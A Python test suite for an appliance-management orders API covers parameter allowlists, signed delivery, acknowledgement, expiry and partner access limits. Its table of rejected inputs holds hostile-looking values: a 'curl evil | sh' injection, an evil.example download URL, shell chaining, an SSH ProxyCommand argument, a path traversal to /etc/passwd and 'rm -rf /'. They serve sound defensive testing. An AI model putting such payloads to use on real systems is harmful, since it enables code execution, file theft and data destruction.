"""Orders over HTTP: allowlisted params, signed for one appliance, delivered once, acknowledged,
completed, and expired when stale."""

from __future__ import annotations

import asyncio
import uuid

import pytest

from contracts.envelope import Keyring, load_verify_key
from contracts.orders import ORDER_TYPES, verify_order
from tests.serving import factories
from tests.serving.conftest import make_settings, start_api
from tests.serving.factories import bearer

CHECKIN = {"hostname": "nuc-1", "agent_version": "0.1.0"}
SHA = "a" * 64
RULE = {"id": "L1-PROMO-1", "conditions": [{"field": "check_type", "operator": "eq", "value": "x"}],
        "action": "execute_runbook", "runbook_id": "RB-WIN-X-1"}
VALID: dict[str, dict] = {
    "force_checkin": {},
    "run_drift": {"check_types": ["firewall_status"]},
    "sync_rules": {},
    "restart_agent": {"delay_seconds": 5},
    "nixos_rebuild": {"flake_ref": "github:osiris/appliance#nuc"},
    "update_agent": {"url": "https://updates.osiris.local/agent-1.2.tar.gz", "sha256": SHA},
    "update_iso": {"url": "https://updates.osiris.local/osiris.iso", "sha256": SHA},
    "view_logs": {"lines": 100},
    "diagnostic": {"kind": "disk"},
    "deploy_sensor": {"hostname": "pc-1"},
    "remove_sensor": {"hostname": "pc-1"},
    "deploy_linux_sensor": {"hostname": "db-1.clinic.local"},
    "remove_linux_sensor": {"hostname": "db-1"},
    "sensor_status": {},
    "update_credentials": {"credential_id": str(uuid.uuid4())},
    "execute_runbook": {"runbook_id": "RB-WIN-FIREWALL-001", "target": "pc-1"},
    "sync_promoted_rule": {"rule": RULE},
}
INVALID: dict[str, dict] = {
    "force_checkin": {"now": True},
    "run_drift": {"check_types": "all"},
    "sync_rules": {"force": 1},
    "restart_agent": {"delay_seconds": 99999},
    "nixos_rebuild": {"flake_ref": "github:osiris/appliance#nuc; curl evil | sh"},
    "update_agent": {"url": "https://evil.example/agent.tar.gz", "sha256": SHA},
    "update_iso": {"url": "http://updates.osiris.local/osiris.iso", "sha256": SHA},
    "view_logs": {"lines": 0},
    "diagnostic": {"kind": "rootshell"},
    "deploy_sensor": {"hostname": "pc-1 && reboot"},
    "remove_sensor": {},
    "deploy_linux_sensor": {"hostname": "-oProxyCommand=x"},
    "remove_linux_sensor": {"hostname": ""},
    "sensor_status": {"verbose": True},
    "update_credentials": {"credential_id": "../../etc/passwd"},
    "execute_runbook": {"runbook_id": "rm -rf /", "target": "pc-1"},
    "sync_promoted_rule": {"rule": {**RULE, "action": "suppress"}},
}


def test_tables_cover_every_order_type():
    assert set(VALID) == set(INVALID) == set(ORDER_TYPES)


async def _setup(api):
    sid = await factories.site(api.client, api.admin)
    appliance = await factories.appliance(api.client, api.admin, sid)
    return sid, appliance


async def _order(api, appliance, order_type="force_checkin", params=None, **extra):
    body = {"appliance_id": appliance.appliance_id, "type": order_type, "params": params or {}, **extra}
    return await api.client.post("/api/orders", json=body, headers=bearer(api.admin))


@pytest.mark.parametrize("order_type", ORDER_TYPES)
async def test_create_order_valid_params_signed_for_the_appliance(api, order_type):
    _, appliance = await _setup(api)
    r = await _order(api, appliance, order_type, VALID[order_type])
    assert r.status_code == 201, r.text
    keyring = Keyring.of(load_verify_key(appliance.provisioned["signing_public_key"]))
    order = verify_order(r.json()["envelope"], keyring, appliance_id=appliance.appliance_id,
                         nonce_seen=lambda _: False)
    assert (order.order_id, order.type, order.target_appliance_id) == (r.json()["id"], order_type,
                                                                       appliance.appliance_id)


@pytest.mark.parametrize("order_type", ORDER_TYPES)
async def test_create_order_params_outside_allowlist_400(api, order_type):
    _, appliance = await _setup(api)
    r = await _order(api, appliance, order_type, INVALID[order_type])
    assert r.status_code == 400, r.text
    assert order_type in r.json()["detail"]
    assert await api.pool.fetchval("SELECT count(*) FROM orders") == 0


async def test_create_order_unknown_type_400(api):
    _, appliance = await _setup(api)
    r = await _order(api, appliance, "format_disk")
    assert r.status_code == 400
    assert "format_disk" in r.json()["detail"]


async def test_create_order_for_missing_appliance_404(api):
    missing = str(uuid.uuid4())
    r = await api.client.post("/api/orders", json={"appliance_id": missing, "type": "force_checkin"},
                              headers=bearer(api.admin))
    assert r.status_code == 404
    assert missing in r.json()["detail"]


async def test_create_order_for_revoked_appliance_409(api):
    sid, appliance = await _setup(api)
    await api.client.post(f"/api/sites/{sid}/appliances/{appliance.appliance_id}/revoke", headers=bearer(api.admin))
    assert (await _order(api, appliance)).status_code == 409


async def test_partner_cannot_order_other_sites_appliance(api):
    _, appliance = await _setup(api)
    elsewhere = await factories.site(api.client, api.admin, "Elsewhere")
    partner = await factories.token(api.pool, "partner", [elsewhere])
    r = await api.client.post("/api/orders", json={"appliance_id": appliance.appliance_id, "type": "force_checkin"},
                              headers=bearer(partner))
    assert r.status_code == 403


async def test_order_lifecycle_delivered_once_acknowledged_completed(api):
    _, appliance = await _setup(api)
    order_id = (await _order(api, appliance, "view_logs", {"lines": 50})).json()["id"]
    first = await api.client.post("/api/appliances/checkin", json=CHECKIN, headers=appliance.headers)
    second = await api.client.post("/api/appliances/checkin", json=CHECKIN, headers=appliance.headers)
    assert [o["signatures"][0]["keyid"] for o in first.json()["orders"]] == [appliance.provisioned["signing_key_id"]]
    assert second.json()["orders"] == []
    status = lambda: api.client.get(f"/api/orders/{order_id}", headers=bearer(api.admin))  # noqa: E731
    assert (await status()).json()["status"] == "delivered"
    r = await api.client.post(f"/api/orders/{order_id}/acknowledge", json={}, headers=appliance.headers)
    assert r.json()["status"] == "acknowledged"
    r = await api.client.post(f"/api/orders/{order_id}/acknowledge", json={}, headers=appliance.headers)
    assert r.status_code == 200  # repeating an acknowledgement is harmless
    r = await api.client.post(f"/api/orders/{order_id}/complete", json={"status": "completed", "detail": "50 lines"},
                              headers=appliance.headers)
    assert (r.json()["status"], r.json()["detail"]) == ("completed", "50 lines")
    assert (await api.client.post(f"/api/orders/{order_id}/complete", json={"status": "completed"},
                                  headers=appliance.headers)).status_code == 200
    r = await api.client.post(f"/api/orders/{order_id}/complete", json={"status": "failed"}, headers=appliance.headers)
    assert r.status_code == 409
    r = await api.client.post(f"/api/orders/{order_id}/acknowledge", json={}, headers=appliance.headers)
    assert r.status_code == 409


async def test_refused_order_recorded_as_failed(api):
    _, appliance = await _setup(api)
    order_id = (await _order(api, appliance)).json()["id"]
    await api.client.post("/api/appliances/checkin", json=CHECKIN, headers=appliance.headers)
    r = await api.client.post(f"/api/orders/{order_id}/acknowledge", json={"status": "refused", "detail": "bad nonce"},
                              headers=appliance.headers)
    assert (r.json()["status"], r.json()["detail"]) == ("failed", "refused: bad nonce")


async def test_other_appliances_order_invisible(api):
    sid, appliance = await _setup(api)
    other = await factories.appliance(api.client, api.admin, sid, name="other")
    order_id = (await _order(api, appliance)).json()["id"]
    for action in ("acknowledge", "complete"):
        r = await api.client.post(f"/api/orders/{order_id}/{action}", json={"status": "failed"}, headers=other.headers)
        assert r.status_code == 404
        assert order_id in r.json()["detail"]
    r = await api.client.post("/api/appliances/checkin", json=CHECKIN, headers=other.headers)
    assert r.json()["orders"] == []


async def test_complete_with_acknowledged_status_400(api):
    _, appliance = await _setup(api)
    order_id = (await _order(api, appliance)).json()["id"]
    r = await api.client.post(f"/api/orders/{order_id}/complete", json={"status": "acknowledged"},
                              headers=appliance.headers)
    assert r.status_code == 400


async def test_malformed_order_id_400(api):
    _, appliance = await _setup(api)
    r = await api.client.post("/api/orders/12/acknowledge", json={}, headers=appliance.headers)
    assert r.status_code == 400
    assert (await api.client.get("/api/orders/xyz", headers=bearer(api.admin))).status_code == 400


async def test_stale_order_expires_and_is_not_delivered(api):
    _, appliance = await _setup(api)
    order_id = (await _order(api, appliance, ttl_seconds=1)).json()["id"]
    await asyncio.sleep(1.2)
    r = await api.client.get(f"/api/orders/{order_id}", headers=bearer(api.admin))
    assert r.json()["status"] == "expired"
    r = await api.client.post("/api/appliances/checkin", json=CHECKIN, headers=appliance.headers)
    assert r.json()["orders"] == []
    r = await api.client.post(f"/api/orders/{order_id}/acknowledge", json={}, headers=appliance.headers)
    assert r.status_code == 409
    listed = await api.client.get("/api/orders", params={"status": "expired"}, headers=bearer(api.admin))
    assert [o["id"] for o in listed.json()] == [order_id]


async def test_sweep_marks_stale_orders_expired_in_storage(db_url, tmp_path):
    async for api in start_api(make_settings(db_url, tmp_path, order_sweep_seconds=0.2)):
        _, appliance = await _setup(api)
        order_id = (await _order(api, appliance, ttl_seconds=1)).json()["id"]
        stored = "SELECT status FROM orders WHERE id = $1"
        assert await api.pool.fetchval(stored, uuid.UUID(order_id)) == "pending"
        for _ in range(150):  # up to 15 s: generous for a loaded machine, the sweep runs every 0.2 s
            await asyncio.sleep(0.1)
            if await api.pool.fetchval(stored, uuid.UUID(order_id)) == "expired":
                break
        assert await api.pool.fetchval(stored, uuid.UUID(order_id)) == "expired"
        assert "osiris_orders_expired_total 1.0" in (await api.client.get("/metrics")).text


async def test_fleet_order_fans_out_one_signed_order_per_live_appliance(api):
    site_a = await factories.site(api.client, api.admin, "A")
    site_b = await factories.site(api.client, api.admin, "B")
    appliances = [await factories.appliance(api.client, api.admin, s, name=n)
                  for s, n in ((site_a, "a1"), (site_a, "a2"), (site_b, "b1"))]
    r = await api.client.post("/api/orders/fleet", json={"type": "sync_rules", "site_ids": [site_a]},
                              headers=bearer(api.admin))
    assert r.status_code == 201
    fleet = r.json()
    assert sorted(o["appliance_id"] for o in fleet["orders"]) == sorted(a.appliance_id for a in appliances[:2])
    assert {o["fleet_id"] for o in fleet["orders"]} == {fleet["fleet_id"]}
    r = await api.client.post("/api/orders/fleet", json={"type": "sync_rules"}, headers=bearer(api.admin))
    assert len(r.json()["orders"]) == 3


async def test_partner_fleet_order_must_name_own_sites(api):
    sid = await factories.site(api.client, api.admin, "Mine")
    other = await factories.site(api.client, api.admin, "Theirs")
    await factories.appliance(api.client, api.admin, sid)
    partner = await factories.token(api.pool, "partner", [sid])
    for body, expected in (({"type": "sync_rules"}, 403), ({"type": "sync_rules", "site_ids": [other]}, 403),
                           ({"type": "sync_rules", "site_ids": [sid]}, 201)):
        r = await api.client.post("/api/orders/fleet", json=body, headers=bearer(partner))
        assert r.status_code == expected, (body, r.text)


async def test_list_orders_partner_sees_own_sites_only(api):
    sid, appliance = await _setup(api)
    other = await factories.site(api.client, api.admin, "Theirs")
    stranger = await factories.appliance(api.client, api.admin, other)
    mine = (await _order(api, appliance)).json()["id"]
    theirs = (await _order(api, stranger)).json()["id"]
    partner = await factories.token(api.pool, "partner", [sid])
    r = await api.client.get("/api/orders", headers=bearer(partner))
    assert [o["id"] for o in r.json()] == [mine]
    assert (await api.client.get(f"/api/orders/{theirs}", headers=bearer(partner))).status_code == 403
    assert (await api.client.get("/api/orders", params={"site_id": other}, headers=bearer(partner))).status_code == 403
